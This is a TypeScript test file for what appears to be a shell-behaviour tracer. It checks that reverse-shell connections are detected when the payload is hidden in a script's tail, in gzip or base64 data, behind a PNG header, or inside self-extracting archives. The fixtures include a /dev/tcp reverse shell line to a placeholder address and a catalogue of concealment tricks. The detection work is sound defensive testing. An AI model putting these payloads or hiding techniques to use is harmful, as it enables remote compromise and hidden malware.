import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { traceOf } from '../../../testing/trace-of.ts';
import { bytesOf } from '../../decode/bytes.ts';
import { render } from '../../value.ts';

const payload = 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n';
const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');

/** A tar of one file, as `tar c` writes it. */
function tarOf(name: string, text: string): Uint8Array {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write('0000755\0', 100);
  header.write(`${Buffer.byteLength(text).toString(8).padStart(11, '0')}\0`, 124);
  header.write('        ', 148);
  header.write('0', 156);
  header.write('ustar\0', 257);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const body = Buffer.alloc(Math.ceil(Buffer.byteLength(text) / 512) * 512);
  body.write(text);
  return Buffer.concat([header, body, Buffer.alloc(1024)]);
}

async function shells(files: Readonly<Record<string, string | Uint8Array>>): Promise<readonly string[]> {
  const story = await traceOf({ cmd: ['/bin/sh', '/run.sh'], files });
  return story.effects.flatMap((effect) =>
    effect.kind === 'connect' && effect.shell !== undefined ? [render(effect.to.host)] : [],
  );
}

/** A script with something behind its end. */
const withTail = (script: string, tail: string | Uint8Array): Uint8Array =>
  Buffer.concat([Buffer.from(`#!/bin/sh\n${script}\n`), Buffer.from(typeof tail === 'string' ? bytesOf(tail) : tail)]);

const behind: readonly (readonly [string, string, string | Uint8Array])[] = [
  ['tail -n +N', 'tail -n +4 "$0" | sh\nexit 0', payload],
  ['tail -n +N of gzip', 'tail -n +4 "$0" | gunzip | sh\nexit 0', gzipSync(payload)],
  ['tail -c', `tail -c ${Buffer.byteLength(gzipSync(payload))} "$0" | zcat | sh\nexit 0`, gzipSync(payload)],
  ['tail -c +N', 'tail -c +38 "$0" | sh\nexit', payload],
  ['head and tail', 'tail -n +4 < $0 | head -n 1 | base64 -d | sh\nexit', `${base64(payload)}\n`],
  ['sed deletes to a mark', 'sed \'1,/^__DATA__$/d\' "$0" | base64 -d | sh\nexit 0\n__DATA__', `${base64(payload)}\n`],
  [
    'sed prints from a mark',
    "sed -n '/^#END/,$p' $0 | tail -n +2 | rev | sh\nexit\n#END",
    [...payload.trim()].reverse().join(''),
  ],
  ['awk behind a mark', 'awk \'f;/^__DATA__/{f=1}\' "$0" | base64 -d | sh\nexit 0\n__DATA__', `${base64(payload)}\n`],
  [
    'line number looked up with awk',
    'N=$(awk \'/^__DATA__/ {print NR + 1; exit 0; }\' "$0")\ntail -n+$N "$0" | gunzip -c | sh\nexit 0\n__DATA__',
    gzipSync(payload),
  ],
  [
    'line number looked up with grep',
    'N=$(grep -n \'^__DATA__$\' "$0" | cut -d: -f1)\ntail -n +$((N+1)) "$0" | base64 -d | bash\nexit 0\n__DATA__',
    `${base64(payload)}\n`,
  ],
  ['dd', 'dd if="$0" bs=1 skip=81 2>/dev/null | gunzip | sh; exit 0 #...........', gzipSync(payload)],
  [
    'an archive unpacked and its script run',
    'mkdir -p /tmp/x\ntail -n +6 "$0" | tar xz -C /tmp/x\ncd /tmp/x && ./install.sh\nexit 0',
    gzipSync(tarOf('./install.sh', `#!/bin/sh\n${payload}`)),
  ],
  [
    'makeself',
    'skip="6"\ndest=/tmp/selfgz1\ntail -n +$skip "$0" | gzip -cd | tar xf - -C $dest\n(cd $dest; eval "./setup.sh"); exit 0',
    gzipSync(tarOf('setup.sh', payload)),
  ],
  [
    'gzexe',
    'skip=6\ntmp=/tmp/gztmp1\ntail -n +$skip <"$0" | gzip -cd > "$tmp" && chmod u+x "$tmp"\n"$tmp" ${1+"$@"}; exit 0',
    gzipSync(`#!/bin/sh\n${payload}`),
  ],
];

describe('scripts with a payload behind their end', () => {
  test.each(behind)('%s', async (_name, script, tail) => {
    expect(await shells({ '/run.sh': withTail(script, tail) })).toContain('192.0.2.44');
  });
});

describe('payloads in files of their own', () => {
  test.each<readonly [string, string, string, string | Uint8Array]>([
    ['gzip', 'gunzip -c /opt/p.gz | sh', '/opt/p.gz', gzipSync(payload)],
    ['gzip in place', 'gunzip /opt/p.sh.gz; sh /opt/p.sh', '/opt/p.sh.gz', gzipSync(payload)],
    ['behind a picture', 'tail -c +9 /opt/logo.png | sh', '/opt/logo.png', `\x89PNG\r\n\x1a\n${payload}`],
    ['archive', 'tar xzf /opt/p.tgz -C /opt; /opt/d/go', '/opt/p.tgz', gzipSync(tarOf('d/go', payload))],
    [
      'reversed base64',
      'rev /opt/d.bin | base64 -d > /tmp/z; sh /tmp/z',
      '/opt/d.bin',
      [...base64(payload)].reverse().join(''),
    ],
  ])('%s', async (_name, script, path, content) => {
    const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
    expect(await shells({ '/run.sh': `#!/bin/sh\n${script}\n`, [path]: bytes })).toContain('192.0.2.44');
  });
});
